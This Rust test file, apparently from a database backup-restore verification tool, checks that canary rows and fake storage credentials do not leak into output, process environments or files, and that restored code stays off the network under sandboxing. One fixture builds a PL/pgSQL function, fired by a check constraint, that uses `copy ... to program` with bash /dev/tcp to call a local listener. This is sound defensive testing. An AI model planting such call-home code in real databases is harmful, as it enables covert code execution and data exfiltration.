//! Rows and secrets stay where they belong, and the restored code stays off the network: seen
//! with canaries in a real database, in credentials, and with a listener nearby.
#![cfg(test)]

#[path = "support/command.rs"]
mod command;
#[path = "support/postgres.rs"]
mod postgres;
mod support;

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use firedrill::digest::Digest;
use serde_json::Value;

use crate::command::{Home, PATIENCE, Running};
use crate::postgres::{eventually, own_install, parent, processes_in};
use crate::support::fault_server::{Fault, FaultServer};
use crate::support::parts::free_address;
use crate::support::s3::S3Server;

/// In every row, and in nothing else.
const ROW: &str = "canary-row";

/// A database in which the same code is harmless where it was dumped and raises with the row in
/// its mouth where it is restored: while rows are loaded, and while an index is built.
const TALKATIVE: &str = r#"
create table quiet (id int primary key, a text);
insert into quiet select n, 'canary-row-' || n from generate_series(1, 50) n;

create function as_number(a text) returns int language plpgsql immutable as 'begin return 1; end';
create function as_raised(a text) returns int language plpgsql immutable as 'begin return 1; end';
create function is_good(a text) returns bool language sql immutable as 'select true';

create table by_index (a text);
insert into by_index values ('canary-row-index');
create index on by_index (as_number(a));
create table by_raise (a text);
insert into by_raise values ('canary-row-raise');
create index on by_raise (as_raised(a));
create table by_load (a text, b int generated always as (as_number(a)) stored);
insert into by_load values ('canary-row-load');
create table by_check (a text check (is_good(a)));
insert into by_check values ('canary-row-check');
create table by_key (a text);
insert into by_key values ('canary-row-key');

create or replace function as_number(a text) returns int language plpgsql immutable as 'begin return a::int; end';
create or replace function as_raised(a text) returns int language plpgsql immutable as
    $$begin raise exception 'the row is % ', a using errcode = '22023', detail = a, hint = a; end$$;
create or replace function is_good(a text) returns bool language sql immutable as 'select a = ''good''';
"#;

/// A custom-format dump of a database made with `sql` on a server of our own.
fn dump_of(sql: &str) -> Vec<u8> {
    let parent = parent();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let cluster = postgres::start(parent.path()).await;
        cluster.connect("postgres").await.unwrap().run(sql).await.unwrap();
        let dump = Command::new(own_install().bin.join("pg_dump"))
            .args(["--format=custom", "--username", cluster.user(), "--dbname=postgres", "--host"])
            .arg(cluster.socket_directory())
            .output()
            .unwrap();
        assert!(dump.status.success(), "{}", String::from_utf8_lossy(&dump.stderr));
        cluster.stop().await.unwrap();
        dump.stdout
    })
}

/// Everything that `directory` holds, and that mentions one of the `canaries`.
fn found_in(directory: &Path, canaries: &[&str]) -> Vec<String> {
    let files = Home::everything_in(directory);
    let mentions = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes);
        canaries.iter().find(|canary| text.contains(*canary)).map(|canary| (*canary).to_owned())
    };
    let told = |(path, bytes): &(std::path::PathBuf, Vec<u8>)| {
        mentions(bytes).map(|canary| format!("'{canary}' in {}", path.display()))
    };
    files.iter().filter_map(told).collect()
}

#[track_caller]
fn silent(what: &str, text: &str, canaries: &[&str]) {
    for canary in canaries {
        assert!(!text.contains(canary), "{what} holds '{canary}': {text}");
    }
}

/// What the processes of the scratch were told: their command lines and environments.
fn told_to_the_server(home: &Home) -> String {
    let mut told = String::new();
    for pid in processes_in(&home.scratch()) {
        for file in ["cmdline", "environ"] {
            let bytes = fs::read(format!("/proc/{pid}/{file}")).unwrap_or_default();
            told += &String::from_utf8_lossy(&bytes).replace('\0', " ");
            told.push('\n');
        }
    }
    told
}

#[test]
fn no_row_and_no_secret_is_told_even_by_a_server_that_quotes_rows() {
    let dump = dump_of(TALKATIVE);
    let home = Home::new();
    let s3 = S3Server::start();
    s3.put("backups", "talk/talk.dump", &dump);
    s3.put("backups", "talk/talk.dump.sha256", format!("{}  talk.dump\n", Digest::of(&dump)).as_bytes());
    home.plan(&format!(
        r#"
        [store.rclone]
        endpoint = "{}"
        region = "us-east-1"
        path_style = true
        [service.talk]
        [service.talk.backup]
        location = "s3://backups/talk/"
        store = "rclone"
        pattern = "talk.dump"
        [service.talk.scratch]
        isolation = "best-effort"
        [[service.talk.check]]
        name = "one that quotes a row in its error"
        sql = "select a::int from quiet limit 1"
        expect = "= 1"
        [[service.talk.check]]
        name = "one that raises with a row"
        sql = "select as_raised(a) from quiet limit 1"
        expect = "= 1"
        [[service.talk.check]]
        name = "a nap"
        sql = "select count(*) from quiet, pg_sleep(2)"
        expect = "= 50"
        "#,
        s3.endpoint
    ));
    let secrets = [s3.access_key.as_str(), s3.secret_key.as_str()];
    let canaries = [&[ROW][..], &secrets].concat();
    for arguments in [&["run", "--json=events"][..], &["run"], &["run", "--json"]] {
        let mut running: Running = home.start(arguments, &s3.variables());
        if arguments.contains(&"--json=events") {
            running.until(&["check_finished", "one that raises"]);
            let told = told_to_the_server(&home);
            assert!(told.contains("postgres") && told.contains("LC_ALL"), "{told}");
            silent("what the server was told", &told, &canaries);
            let own = fs::read(format!("/proc/{}/cmdline", running.id())).unwrap();
            silent("the command line", &String::from_utf8_lossy(&own), &canaries);
            // The rows themselves lie in the server's data directory, and nowhere beside it.
            let beside = found_in(&home.scratch(), &canaries);
            let beside: Vec<_> = beside.iter().filter(|found| !found.contains("/data/")).collect();
            assert_eq!(beside, [""; 0]);
        }
        let ended = running.end().with(1);
        silent("stdout", &ended.stdout, &canaries);
        silent("stderr", &ended.stderr, &canaries);
        assert!(ended.stdout.contains("RESTORE_ERRORS"), "{}", ended.stdout);
    }
    assert_eq!(found_in(home.path(), &canaries), [""; 0]);
    // All of it did happen: each of these entries failed, and is named.
    let failed = home.evidence("talk")[0]["restore"]["failed"].to_string();
    for name in ["by_load", "by_check", "by_index", "by_raise"] {
        assert!(failed.contains(name), "{name}: {failed}");
    }
}

#[test]
fn no_secret_is_told_by_a_store_that_is_asked_in_vain() {
    const SECRETS: [&str; 3] = ["Y2FuYXJ5LWtleQ", "canary-signature", "canary-session"];
    let key = "Y2FuYXJ5LWtleQ==".to_owned();
    let sas = "sv=2021-12-02&ss=b&srt=sco&sp=rl&se=2030-01-01T00%3A00%3A00Z&sig=canary-signature".to_owned();
    let connection = format!("AccountName=acme;AccountKey={key};BlobEndpoint=http://{}/acme", free_address());
    let by_sas =
        format!("AccountName=acme;SharedAccessSignature={sas};BlobEndpoint=http://{}/acme", free_address());
    let refusing = FaultServer::start([], |_| Fault::Status(403, "AuthenticationFailed"));
    let babbling = FaultServer::start([], |_| Fault::Text("<html>not a listing</html>".into()));
    let down = format!("http://{}", free_address());
    let mut table: Vec<(String, &str, Vec<(&str, String)>)> = Vec::new();
    for endpoint in [&refusing.endpoint, &babbling.endpoint, &down] {
        let s3 = format!("endpoint = \"{endpoint}\"\nregion = \"us-east-1\"\npath_style = true");
        let session = vec![
            ("AWS_ACCESS_KEY_ID", "any".into()),
            ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ("AWS_SESSION_TOKEN", "canary-session".into()),
        ];
        table.push((s3, "s3://b/p/", session));
        let at = |way: &str| format!("endpoint = \"{endpoint}/acme\"\n{way} = \"SECRET\"");
        table.push((at("account_key_env"), "az://acme/b/p/", vec![("SECRET", key.clone())]));
        table.push((at("sas_env"), "az://acme/b/p/", vec![("SECRET", sas.clone())]));
    }
    let by_connection = "connection_string_env = \"SECRET\"".to_owned();
    for text in
        [connection.clone(), by_sas, connection.replace(';', "&"), connection.replace("acme;", "other;")]
    {
        table.push((by_connection.clone(), "az://acme/b/p/", vec![("SECRET", text)]));
    }
    // What was put into the wrong variable is not repeated either.
    for wrong in [&sas, &connection] {
        let way = format!("endpoint = \"{down}/acme\"\naccount_key_env = \"SECRET\"");
        table.push((way, "az://acme/b/p/", vec![("SECRET", wrong.clone())]));
    }
    std::thread::scope(|scope| {
        for (store, location, variables) in &table {
            scope.spawn(move || {
                let home = Home::with_plan(&format!(
                    "[store.test]\n{store}\n[service.fx]\nchecks = \"content only\"\n\
                     [service.fx.backup]\nlocation = \"{location}\"\nstore = \"test\"\npattern = \"fx.dump\"\n"
                ));
                let ended = home.run(&["run"], variables).with(2);
                silent("stdout", &ended.stdout, &SECRETS);
                silent("stderr", &ended.stderr, &SECRETS);
                assert_eq!(found_in(home.path(), &SECRETS), [""; 0], "{store}");
                assert_eq!(home.evidence("fx").len(), 1, "{store}");
            });
        }
    });
}

/// Calls home by every way that a superuser's SQL has, and swallows what comes of it. It is run by
/// the restore, through the constraint, and by a check.
fn telltale(port: u16) -> String {
    format!(
        r#"
        create function call_home() returns int language plpgsql as $code$
        begin
            begin
                copy (select 1) to program 'bash -c "exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3"';
            exception when others then null;
            end;
            return 1;
        end
        $code$;
        create table t (a int check (call_home() = a));
        insert into t values (1);
        "#
    )
}

#[test]
fn restored_code_reaches_nobody_unless_the_plan_lets_it() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let calls = || std::iter::from_fn(|| listener.accept().ok()).count();
    let dump = dump_of(&telltale(listener.local_addr().unwrap().port()));
    _ = calls();
    for (isolation, network) in [("off", "host"), ("required", "none")] {
        let home = Home::new();
        support::s3::write(&home.path().join("backups/t.dump"), &dump);
        home.plan(&format!(
            "[service.t.backup]\nlocation = \"file://{}/backups/\"\npattern = \"t.dump\"\n\
             [service.t.scratch]\nsettings = \"fast\"\nisolation = \"{isolation}\"\n\
             [[service.t.check]]\nname = \"call\"\nsql = \"select call_home()\"\nexpect = \"= 1\"\n",
            home.path().display()
        ));
        let document = home.run(&["run", "--json"], &[]).with(0).document();
        let sandbox: &Value = &document["drills"][0]["environment"]["sandbox"];
        assert_eq!(sandbox["network"], network, "{isolation}");
        assert_eq!(sandbox["required"], isolation == "required");
        // First that the telltale works: by the restored row and by the check.
        let expected = if isolation == "off" { 2 } else { 0 };
        let mut heard = 0;
        if expected > 0 {
            eventually(PATIENCE, "it is called", || {
                heard += calls();
                heard >= expected
            });
        } else {
            std::thread::sleep(Duration::from_millis(200));
            heard += calls();
        }
        assert_eq!(heard, expected, "{isolation}");
    }
}
